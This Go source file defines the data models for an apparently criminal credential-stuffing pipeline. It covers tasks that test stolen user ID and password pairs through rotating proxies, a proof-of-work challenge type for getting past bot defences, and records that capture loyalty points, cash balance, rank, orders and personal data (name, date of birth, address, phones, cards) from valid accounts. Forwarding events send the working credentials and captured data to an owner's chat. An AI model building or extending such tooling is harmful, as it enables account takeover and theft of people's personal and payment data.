// Package model defines the entities and wire envelopes shared by every
// component of the credential-validation pipeline.
package model

import "time"

// Status is the verdict produced by the Protocol Driver for one credential.
type Status string

const (
	StatusValid   Status = "VALID"
	StatusInvalid Status = "INVALID"
	StatusBlocked Status = "BLOCKED"
	StatusError   Status = "ERROR"
)

// Credential identifies a login attempt. Immutable; the store derives cache
// keys from the pair.
type Credential struct {
	UserID   string `json:"user_id"`
	Password string `json:"password"`
}

// Task is a single credential check, owned by whichever Worker currently
// holds its Lease.
type Task struct {
	TaskID     string    `json:"task_id"`
	BatchID    string    `json:"batch_id"`
	UserID     string    `json:"user_id"`
	Password   string    `json:"password"`
	ProxyID    string    `json:"proxy_id"`
	ProxyURL   string    `json:"proxy_url"`
	RetryCount int       `json:"retry_count"`
	EnqueuedAt time.Time `json:"enqueued_at"`
}

// Credential returns the task's identifying credential pair.
func (t Task) Credential() Credential {
	return Credential{UserID: t.UserID, Password: t.Password}
}

// Batch tracks a submitted set of credentials through its lifecycle.
// queued + cached_skipped == total at creation; progress_counter is
// monotonic non-decreasing and bounded by queued.
type Batch struct {
	BatchID       string    `json:"batch_id"`
	OwnerChat     string    `json:"owner_chat"`
	Total         int       `json:"total"`
	Queued        int       `json:"queued"`
	CachedSkipped int       `json:"cached_skipped"`
	CreatedAt     time.Time `json:"created_at"`
}

// Lease grants exclusive ownership of a task to one worker for its TTL.
type Lease struct {
	BatchID    string    `json:"batch_id"`
	TaskID     string    `json:"task_id"`
	WorkerID   string    `json:"worker_id"`
	AcquiredAt time.Time `json:"acquired_at"`
	Payload    Task      `json:"payload"`
}

// WorkerRegistration is the long-lived record created on worker start and
// deleted on graceful shutdown.
type WorkerRegistration struct {
	WorkerID         string    `json:"worker_id"`
	PID              int       `json:"pid"`
	Host             string    `json:"host"`
	StartedAt        time.Time `json:"started_at"`
	ConcurrencyLimit int       `json:"concurrency_limit"`
}

// Heartbeat is overwritten every interval with a short TTL; a worker is
// considered live iff its heartbeat record exists.
type Heartbeat struct {
	WorkerID        string    `json:"worker_id"`
	Timestamp       time.Time `json:"ts"`
	ActiveTaskCount int       `json:"active_task_count"`
	TasksCompleted  int64     `json:"tasks_completed"`
	Utilization     float64   `json:"utilization"`
	MemoryRSS       uint64    `json:"memory_rss"`
	CurrentTaskIDs  []string  `json:"current_task_ids"`
}

// Profile is the captured account detail for a VALID credential.
type Profile struct {
	Name     *string  `json:"name"`
	NameKana *string  `json:"name_kana"`
	Email    *string  `json:"email"`
	Phones   []string `json:"phones"`
	DOB      *string  `json:"dob"`
	Address  *string  `json:"address"`
	Cards    []string `json:"cards"`
}

// Capture is produced only for VALID results. Capture failures are
// non-fatal; missing fields are left nil rather than causing the result
// to degrade.
type Capture struct {
	Points          string   `json:"points"`
	Cash            string   `json:"cash"`
	Rank            string   `json:"rank"`
	LatestOrderDate *string  `json:"latest_order_date"`
	LatestOrderID   *string  `json:"latest_order_id"`
	Profile         *Profile `json:"profile"`
}

// RankName maps the endpoint's numeric rank code to its label.
func RankName(code int) string {
	switch code {
	case 1:
		return "Regular"
	case 2:
		return "Silver"
	case 3:
		return "Gold"
	case 4:
		return "Platinum"
	case 5:
		return "Diamond"
	default:
		return "Unknown"
	}
}

// Result is the immutable, idempotently-written outcome of one Task.
type Result struct {
	UserID      string   `json:"user_id"`
	Password    string   `json:"password"`
	Status      Status   `json:"status"`
	CheckedAtMs int64    `json:"checked_at_ms"`
	WorkerID    string   `json:"worker_id"`
	ProxyID     string   `json:"proxy_id"`
	DurationMs  int64    `json:"duration_ms"`
	ErrorCode   string   `json:"error_code,omitempty"`
	IPAddress   string   `json:"ip_address,omitempty"`
	Capture     *Capture `json:"capture,omitempty"`
}

// ProxyOutcome is the result of using a proxy for one request, reported
// back to the Proxy Pool.
type ProxyOutcome string

const (
	ProxyOK            ProxyOutcome = "ok"
	ProxyTransientFail ProxyOutcome = "transient_fail"
	ProxyPermanentFail ProxyOutcome = "permanent_fail"
)

// PoWChallenge is the endpoint-supplied puzzle definition (mdata).
type PoWChallenge struct {
	Mask string `json:"mask"`
	Key  string `json:"key"`
	Seed int64  `json:"seed"`
}

// ForwardEvent announces a VALID outcome for downstream delivery.
type ForwardEvent struct {
	UserID    string   `json:"user_id"`
	Password  string   `json:"password"`
	Capture   *Capture `json:"capture"`
	IPAddress string   `json:"ip_address"`
	Ts        int64    `json:"ts"`
	WorkerID  string   `json:"worker_id"`
	BatchID   string   `json:"batch_id"`
}

// UpdateEvent announces a status change for a previously VALID credential.
type UpdateEvent struct {
	UserID        string `json:"user_id"`
	Password      string `json:"password"`
	NewStatus     Status `json:"new_status"`
	TrackingCode  string `json:"tracking_code"`
	Ts            int64  `json:"ts"`
	WorkerID      string `json:"worker_id"`
	BatchID       string `json:"batch_id"`
}

// ConfigUpdate carries an operator push of a hot-reloadable config list.
type ConfigUpdate struct {
	Kind    string `json:"kind"` // "blocked_tokens" | "proxy_list"
	Payload []byte `json:"payload"`
}
